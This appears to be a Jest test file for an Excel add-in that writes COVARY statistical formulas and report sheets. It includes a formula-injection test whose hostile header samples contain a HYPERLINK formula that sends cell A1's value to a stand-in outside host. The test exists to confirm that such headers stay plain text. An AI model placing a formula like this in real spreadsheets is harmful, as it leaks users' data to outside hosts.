/**
 * What the write buttons put in the sheet. References follow Microsoft's documented formula syntax: absolute A1
 * references ($B$2:$B$49), sheet names quoted when they hold spaces, structured references Table[Column] with
 * special characters in a column name escaped by a single quote ("Using structured references with Excel
 * tables").
 */
import { parseAddress } from '../../../src/sheet/a1';
import { Entry, isFormulaEntry, shownText } from '../../../src/sheet/entries';
import { allBlank, columnReference, escapeColumnName, formulaBlock, formulaPlaces, reportSheetCells, ColumnRef } from '../../../taskpane/sheet-output';

const block = (a: string) => parseAddress(a)![0];
const rangeRef = (a: string): ColumnRef => ({ source: { kind: 'range', address: a }, block: block(a) });
const tableRef = (table: string, column: string, a: string): ColumnRef => ({ source: { kind: 'table', table, column }, block: block(a) });

describe('references', () => {
  test('ranges are absolute; the sheet is named only from another sheet, quoted when needed', () => {
    expect(columnReference(rangeRef('Staff!B2:B49'), 'Staff')).toBe('$B$2:$B$49');
    expect(columnReference(rangeRef('Staff!B2:B49'), 'Report')).toBe('Staff!$B$2:$B$49');
    expect(columnReference(rangeRef("'North branch'!B2:B49"), '')).toBe("'North branch'!$B$2:$B$49");
  });
  test('table columns become structured references that follow the table', () => {
    expect(columnReference(tableRef('Shops', 'Visits', 'S!B2:B9'), 'S')).toBe('Shops[Visits]');
    expect(columnReference(tableRef('Shops', 'Oven hours', 'S!B2:B9'), 'S')).toBe('Shops[[Oven hours]]');
    expect(columnReference(tableRef('Shops', 'Visits', 'S!B2:B9'), 'S', true)).toBe('$B$2:$B$9');
  });
  test("special characters in column names are escaped with '", () => {
    expect(escapeColumnName("Q1 [est.] #'s")).toBe("Q1 '[est.'] '#''s");
  });
});

describe('formula block', () => {
  const cells = formulaBlock(rangeRef('Staff!B2:B49'), rangeRef('Staff!C2:C49'), { x: 'Visits', y: 'Sales "net"' }, 'Staff', { method: 'spearman', level: 0.9, alpha: 0.05 });
  test('six labelled rows with the COVARY functions and their optional arguments in order', () => {
    expect(cells).toHaveLength(6);
    expect(cells[1][1]).toBe('=COVARY.COEF($B$2:$B$49, $C$2:$C$49, "spearman")');
    expect(cells[2][1]).toBe('=COVARY.INTERVAL($B$2:$B$49, $C$2:$C$49, 0.9, "spearman")');
    expect(cells[3][1]).toBe('=COVARY.PVALUE($B$2:$B$49, $C$2:$C$49, "both", "spearman")');
    expect(cells[4][1]).toBe('=COVARY.PAIRS($B$2:$B$49, $C$2:$C$49)');
    expect(cells[5][1]).toBe('=COVARY.FLAGS($B$2:$B$49, $C$2:$C$49, 0.05)');
    expect(shownText(cells[2][0])).toBe('90% interval (lower, upper)');
  });
  test('header text is written as plain cell text (never a formula)', () => {
    expect(isFormulaEntry(cells[0][0])).toBe(false);
    expect(shownText(cells[0][0])).toBe('Covary: Sales "net" against Visits');
  });
  test('places start two columns right of the data, at the header row, moving right', () => {
    const places = formulaPlaces([block('Staff!B2:B49'), block('Staff!C2:C49')], 3);
    expect(places.map((p) => [p.firstColumn, p.firstRow, p.lastColumn, p.lastRow])).toEqual([[5, 1, 7, 6], [9, 1, 11, 6], [13, 1, 15, 6]]);
  });
  test('blank detection', () => {
    expect(allBlank([['', null], [undefined, '']])).toBe(true);
    expect(allBlank([['', 0]])).toBe(false);
  });
});

describe('report sheet', () => {
  test('REPORT and CHECKS formulas with sheet-qualified references, rectangular', () => {
    const rows = reportSheetCells(rangeRef("'North branch'!B2:B49"), rangeRef("'North branch'!C2:C49"), { x: 'Visits', y: 'Sales' }, { method: 'pearson', level: 0.95, alpha: 0.05 }, new Date(Date.UTC(2024, 4, 1, 9, 30)));
    expect(new Set(rows.map((r) => r.length)).size).toBe(1);
    const formulas = rows.flat().filter(isFormulaEntry);
    expect(formulas).toEqual([
      "=COVARY.REPORT('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.95, \"pearson\", \"\", $B$2, $B$3)",
      "=COVARY.CHECKS('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.05)",
      "=COVARY.SENSITIVITY('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.95, \"pearson\")",
    ]);
    expect(shownText(rows[3][1])).toBe('2024-05-01 09:30 UTC');
    // The names REPORT's reading uses sit alone in B2 and B3.
    expect([shownText(rows[1][1]), shownText(rows[2][1])]).toEqual(['Visits', 'Sales']);
    expect(shownText(rows[1][2])).toBe("'North branch'!B2:B49");
  });
  test('SENSITIVITY sits below the eight checks, clear of the CHECKS spill', () => {
    const rows = reportSheetCells(rangeRef('S!B2:B49'), rangeRef('S!C2:C49'), { x: 'Visits', y: 'Sales' }, { method: 'pearson', level: 0.95, alpha: 0.05 }, new Date(0));
    const checksRow = rows.findIndex((r) => String(r[3]).startsWith('=COVARY.CHECKS'));
    const sensitivityRow = rows.findIndex((r) => String(r[3]).startsWith('=COVARY.SENSITIVITY'));
    expect(sensitivityRow - checksRow).toBeGreaterThan(9); // CHECKS spills a header and eight rows
    for (let i = checksRow + 1; i < checksRow + 9; i++) expect(rows[i][3]).toBe('');
  });
});

/**
 * Formula injection: a header is the sheet's text and must come back as the same text, never as a formula, a
 * number or a function call, whatever it begins with (the characters spreadsheets treat as the start of a
 * formula: = + - @, and the tab / carriage return that some hosts strip before them).
 */
describe('headers are never formulas', () => {
  const hostile = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', "'=quoted", '1-2'];
  const everyEntry = (x: string, y: string): Entry[] => [
    ...formulaBlock(rangeRef('S!B2:B9'), rangeRef('S!C2:C9'), { x, y }, 'S', { method: 'pearson', level: 0.95, alpha: 0.05 }).flat(),
    ...reportSheetCells(rangeRef('S!B2:B9'), rangeRef('S!C2:C9'), { x, y }, { method: 'pearson', level: 0.95, alpha: 0.05 }, new Date(0)).flat(),
  ];
  test.each(hostile)('%s', (h) => {
    const entries = everyEntry(h, h);
    for (const e of entries.filter(isFormulaEntry)) expect(String(e)).toMatch(/^=COVARY\.[A-Z_]+\(S!\$B\$2:\$B\$9, S!\$C\$2:\$C\$9|^=COVARY\.[A-Z_]+\(\$B\$2:\$B\$9, \$C\$2:\$C\$9/);
    const texts = entries.filter((e) => !isFormulaEntry(e) && e !== '');
    for (const e of texts) expect(String(e)).toMatch(/^'/);
    expect(texts.map(shownText).join('\n')).toContain(h);
  });
});

describe('report sheet with the comparison on screen', () => {
  const opts = { method: 'spearman' as const, level: 0.9, alpha: 0.05 };
  const cells = (design: 'independent' | 'shared' | 'separate', common?: { a: 0 | 1; b: 0 | 1 }) =>
    reportSheetCells(rangeRef('N!B2:B49'), rangeRef('N!C2:C49'), { x: 'Mechanics', y: 'Repairs' }, opts, new Date(0), {
      x: rangeRef(design === 'independent' ? 'S!B2:B41' : 'N!D2:D49'),
      y: rangeRef(design === 'shared' ? 'N!C2:C49' : design === 'independent' ? 'S!C2:C41' : 'N!E2:E49'),
      names: { x: 'Other', y: 'Repairs' },
      design,
      common,
    });
  const diff = (rows: Entry[][]) => rows.flat().filter(isFormulaEntry).find((f) => String(f).startsWith('=COVARY.DIFF_'));

  test('each design writes its own comparison formula, below the REPORT spill, with the options in force', () => {
    expect(diff(cells('independent'))).toBe('=COVARY.DIFF_GROUPS(N!$B$2:$B$49, N!$C$2:$C$49, S!$B$2:$B$41, S!$C$2:$C$41, 0.9, "both", "spearman")');
    // Shared: the common column first (C in both pairs), then pair A's other column, then pair B's.
    expect(diff(cells('shared', { a: 1, b: 1 }))).toBe('=COVARY.DIFF_SHARED(N!$C$2:$C$49, N!$B$2:$B$49, N!$D$2:$D$49, 0.9, "both", "spearman")');
    expect(diff(cells('separate'))).toBe('=COVARY.DIFF_SEPARATE(N!$B$2:$B$49, N!$C$2:$C$49, N!$D$2:$D$49, N!$E$2:$E$49, 0.9, "both", "spearman")');
    const rows = cells('independent');
    const at = rows.findIndex((r) => String(r[0]).startsWith('=COVARY.DIFF_'));
    expect(at).toBeGreaterThanOrEqual(36);
    expect(new Set(rows.map((r) => r.length)).size).toBe(1);
  });

  test('without a comparison the report ends with its SENSITIVITY table', () => {
    const rows = reportSheetCells(rangeRef('N!B2:B49'), rangeRef('N!C2:C49'), { x: 'M', y: 'R' }, opts, new Date(0));
    expect(diff(rows)).toBeUndefined();
  });
});
